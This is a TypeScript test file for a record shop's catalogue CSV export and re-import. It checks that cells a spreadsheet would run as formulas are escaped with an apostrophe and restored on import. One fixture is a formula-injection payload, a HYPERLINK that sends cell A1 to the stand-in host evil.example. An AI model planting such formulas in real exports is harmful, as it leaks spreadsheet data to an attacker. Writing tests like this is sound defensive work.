import { parse } from "csv-parse/sync";
import { beforeAll, describe, expect, it } from "vitest";
import { recordCount, upload, useCatalogueAdmin } from "../../tests/setup/catalogue-admin";
import { insertRecord } from "../../tests/setup/shop-fixtures";
import { records } from "../../db/schema";
import { hasRealCover, isPlaceholderTitle } from "../../app/domain/catalogue/hiding";
import { exportCatalogueCsv } from "./catalogue-export";
import { createCatalogueImportService, type CatalogueImportService } from "./catalogue-import";

const admin = useCatalogueAdmin();
let imports: CatalogueImportService;

beforeAll(() => {
  imports = createCatalogueImportService(admin.t.db, { importDir: admin.importDir });
});

const hostileTitle = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';

/** Records whose text a spreadsheet would take for formulas, and one whose own apostrophe must survive. */
function insertHostileRecords() {
  const base = { format: "Vinyl LP", genre: "Jazz", pricePence: 1999, stockQuantity: 3, condition: "new" as const };
  insertRecord(admin.t.db, { ...base, catalogNumber: "EXP-1", title: hostileTitle, artist: "-M-", label: "@Home" });
  insertRecord(admin.t.db, { ...base, catalogNumber: "+EXP-2", title: "'Round Midnight", artist: "Miles Davis" });
  insertRecord(admin.t.db, {
    ...base,
    catalogNumber: "EXP-3",
    title: "'=Quoted",
    artist: "+Plus",
    description: "First line\r\nsecond line\nthird",
  });
}

describe("the catalogue's export", () => {
  it("exports the whole catalogue in the import's columns", async () => {
    const csv = exportCatalogueCsv(admin.t.db);
    const lines = csv.trim().split("\n");
    expect(lines[0]).toBe(
      "catalogue_id,catalogue_number,title,artist,genre,price,format,label,release_date,physical_release_date,year,condition,duration,rating,new_release,best_seller,description,stock,published,discogs_release_id",
    );
    expect(lines.length).toBeGreaterThan(recordCount(admin.t.db));
    // Importing the export back changes nothing for the records it can match.
    const preview = await imports.previewImport(upload(csv));
    expect(preview.plan.counts.update).toBe(0);
    expect(preview.plan.counts.create).toBe(0);
  });

  it("re-imports the seeded catalogue's export with no errors", async () => {
    const { plan } = await imports.previewImport(upload(exportCatalogueCsv(admin.t.db)));
    const errors = plan.rows.flatMap((r) => (r.action === "error" ? [`line ${r.line}: ${r.errors.join("; ")}`] : []));
    expect(plan.fileError).toBeNull();
    expect(errors).toEqual([]);
    expect(plan.counts.error).toBe(0);
    expect(plan.counts.unchanged).toBe(recordCount(admin.t.db));
  });

  it("warns in the preview of the records the shop hides: no cover, or a placeholder title", async () => {
    const { plan } = await imports.previewImport(upload(exportCatalogueCsv(admin.t.db)));
    const stored = new Map(
      admin.t.db
        .select()
        .from(records)
        .all()
        .map((r) => [r.id, r]),
    );
    const warned = plan.rows.flatMap((r) =>
      (r.action === "update" || r.action === "unchanged") && r.hidden ? [[r.recordId, r.hidden] as const] : [],
    );
    expect(warned.map(([, why]) => why)).toContain("no cover");
    expect(warned.map(([, why]) => why)).toContain("placeholder title");
    for (const [id, why] of warned)
      if (why === "no cover") expect(hasRealCover(stored.get(id!)!.coverUrl)).toBe(false);
      else expect(isPlaceholderTitle(stored.get(id!)!.title)).toBe(true);
    const shown = plan.rows.filter((r) => r.action === "unchanged" && !r.hidden);
    expect(shown.length).toBeGreaterThan(0);
  });

  it("warns that a new record will be hidden until it has a cover", async () => {
    const { plan } = await imports.previewImport(upload("catalogue_number,title,artist,price\nNEW-HID-1,Fresh,Someone,10.00\n"));
    expect(plan.rows[0]).toMatchObject({ action: "create", hidden: "no cover" });
  });
});

describe("the catalogue's export of text a spreadsheet would run", () => {
  beforeAll(insertHostileRecords);

  it("writes every text cell a spreadsheet would run as a formula with an apostrophe in front", () => {
    const [header, ...rows] = parse(exportCatalogueCsv(admin.t.db)) as string[][];
    const col = (name: string) => header!.indexOf(name);
    const row = (catalogNumber: string) => rows.find((r) => r[col("catalogue_number")] === catalogNumber)!;
    expect(row("EXP-1")[col("title")]).toBe(`'${hostileTitle}`);
    expect(row("EXP-1")[col("artist")]).toBe("'-M-");
    expect(row("EXP-1")[col("label")]).toBe("'@Home");
    expect(row("'+EXP-2")[col("title")]).toBe("'Round Midnight");
    expect(row("EXP-3")[col("title")]).toBe("''=Quoted");
    // The shop's own figures are written as they are.
    expect(row("EXP-1")[col("price")]).toBe("19.99");
    expect(row("EXP-1")[col("stock")]).toBe("3");
    for (const cells of rows) for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it("imports back unchanged: the apostrophes the export added are taken off again, and only those", async () => {
    const { plan } = await imports.previewImport(upload(exportCatalogueCsv(admin.t.db)));
    const mine = plan.rows.filter((r) => "fields" in r && ["EXP-1", "+EXP-2", "EXP-3"].includes(r.fields.catalogNumber ?? ""));
    expect(mine.map((r) => r.action)).toEqual(["unchanged", "unchanged", "unchanged"]);
    expect(mine.map((r) => r.action === "unchanged" && [r.fields.title, r.fields.artist])).toEqual([
      [hostileTitle, "-M-"],
      ["'Round Midnight", "Miles Davis"],
      ["'=Quoted", "+Plus"],
    ]);
    expect(plan.counts.create).toBe(0);
  });
});
